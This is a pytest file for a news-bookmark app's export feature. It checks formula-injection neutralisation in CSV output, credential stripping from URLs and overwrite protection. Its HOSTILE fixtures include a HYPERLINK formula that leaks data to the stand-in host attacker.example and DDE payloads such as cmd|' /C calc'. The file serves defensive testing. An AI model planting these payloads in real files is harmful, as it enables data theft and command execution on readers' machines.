"""Bookmark exports are safe to open: no spreadsheet formulas, no credentials, no overwrites.

A feed's author writes the title of every bookmark taken from it, the page's sentences become
claim texts, and the user writes notes and tags: each of them reaches the CSV file. The bookmarks
here are written to bookmarks.jsonl as the app would, and exported by the real `sitrep` process.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from tui.service.bookmarks import bookmark_citation, export_csv, export_markdown
from tui.store import bookmarks
from tui.store.journal import append_entries, journal_line

# (field, hostile value): one for each cell start a spreadsheet reads as a formula
HOSTILE = [
    ("article_title", '=HYPERLINK("http://attacker.example/?leak="&A1,"Open me")'),
    ("claim_text", "@SUM(1+1)*cmd|' /C calc'!A0 said the ministry."),
    ("source", "+cmd|' /C notepad'!A0"),
    ("quote", "-2+3+cmd|' /C calc'!A0"),
    ("feed_name", "=CMD|' /C calc'!A0"),
    ("note", "=1+2"),
    ("tags", "\t=1+2"),
    ("cue", "\r=1+2"),
]


def record(**changes: object) -> dict[str, object]:
    base: dict[str, object] = {
        "id": 1, "claim_key": "k1", "claim_text": "The ministry said the bridge was hit.",
        "source": "the ministry", "cue": "said", "status": "claimed", "quote": "reported",
        "claim_start": 0, "claim_end": 37, "source_start": 0, "source_end": 12,
        "article_id": 1, "article_title": "Bridge hit", "article_url":
        "https://news.example/bridge", "feed_name": "Wire", "published":
        "2026-11-18T06:30:00+00:00", "text_hash": "0" * 64, "note": "", "tags": "",
        "created": "2026-11-20T09:00:00+00:00", "updated": "2026-11-20T09:00:00+00:00",
    }
    base.update(changes)
    return base


def sitrep(directory: Path, *args: str) -> subprocess.CompletedProcess[str]:
    (directory / "feeds.toml").touch()
    return subprocess.run(
        [sys.executable, "-m", "tui", "--config", str(directory / "feeds.toml"), "--cache",
         str(directory / "cache"), *args],
        capture_output=True, text=True, timeout=60,
    )


def journal(directory: Path, records: list[dict[str, object]]) -> None:
    (directory / "cache").mkdir(parents=True, exist_ok=True)
    # records as an older sitrep journaled them (without the fields of schema 8)
    lines = [journal_line("add", {f: r[f] for f in bookmarks.FIELDS if f in r},
                          "2026-11-20T09:00:00Z") for r in records]
    append_entries(directory / "cache" / "bookmarks.jsonl", lines)


@pytest.mark.parametrize(("field", "value"), HOSTILE, ids=[f for f, _ in HOSTILE])
def test_a_formula_in_any_text_cell_is_neutralised(field: str, value: str) -> None:
    cells = next(csv.DictReader(io.StringIO(export_csv([record(**{field: value})]))))
    assert cells[field] == "'" + value.replace("\r", "\n")  # shown as written, not computed
    for name, cell in cells.items():  # and no other cell starts a formula
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), name


def test_plain_cells_and_numbers_are_unchanged() -> None:
    cells = next(csv.DictReader(io.StringIO(export_csv([record(claim_start=-1)]))))
    assert cells["article_title"] == "Bridge hit" and cells["claim_start"] == "-1"


def test_the_cli_csv_export_of_hostile_bookmarks_has_no_formula(tmp_path: Path) -> None:
    journal(tmp_path, [record(claim_key=f"k{i}", id=i, **{f: v}) for i, (f, v) in
                       enumerate(HOSTILE)])
    done = sitrep(tmp_path, "bookmarks", "export", "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


# ── credentials never leave in a URL ─────────────────────────────────────────────────────────


def test_exports_and_citations_drop_credentials_of_old_bookmarks() -> None:
    """A bookmark saved before credentials were stripped at ingest still exports without."""
    leaky = record(article_url="http://reader:token@news.example/bridge")
    outputs = [export_csv([leaky]), export_markdown([leaky]), bookmark_citation(leaky)]
    for text in outputs:
        assert "reader" not in text and "token" not in text
        assert "http://news.example/bridge" in text


# ── exports never replace a file ─────────────────────────────────────────────────────────────


def test_export_refuses_an_existing_file_without_force(tmp_path: Path) -> None:
    journal(tmp_path, [record()])
    config = tmp_path / "feeds.toml"
    config.write_text("[settings]\nrefresh_minutes = 0\n", encoding="utf-8")
    before = config.read_bytes()
    refused = sitrep(tmp_path, "bookmarks", "export", "--format", "csv", "-o", str(config))
    assert refused.returncode == 2
    assert "exists" in refused.stderr and "--force" in refused.stderr
    assert config.read_bytes() == before

    target = tmp_path / "out.csv"
    assert sitrep(tmp_path, "bookmarks", "export", "--format", "csv", "-o",
                  str(target)).returncode == 0
    target.write_text("old", encoding="utf-8")
    forced = sitrep(tmp_path, "bookmarks", "export", "--format", "csv", "-o", str(target),
                    "--force")
    assert forced.returncode == 0, forced.stderr
    assert target.read_text(encoding="utf-8").startswith("id,claim_key")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cache", "feeds.toml", "out.csv"]
